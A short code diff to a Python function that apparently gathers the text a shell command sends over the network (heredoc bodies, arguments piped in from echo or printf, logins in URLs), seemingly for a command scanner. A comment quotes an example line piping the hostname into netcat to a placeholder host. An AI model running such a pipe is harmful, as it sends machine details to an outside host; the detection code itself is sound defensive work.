@@ -99,6 +99,11 @@ def outbound_text(c: Command) -> str:
     for r in c.redirects:
         if r.op in ("<<", "<<-", "<<<") and r.body:
             out.append(r.body[:4000])
+    src, hops = c.pipe_from, 0
+    while src is not None and hops < 4:  # (`echo "$(hostname) done" | nc HOST 9000`: what is piped in is sent)
+        if src.name in ("echo", "printf", "print", "write-output", "echo.exe"):
+            out += [w.raw or w.value for w in src.argv[1:]]
+        src, hops = src.pipe_from, hops + 1
     text = " ".join(out)[:20_000]
     return _USERINFO.sub(r"\1", text) if "@" in text else text  # (`https://$USER@host`: the login, like `-u`)
 
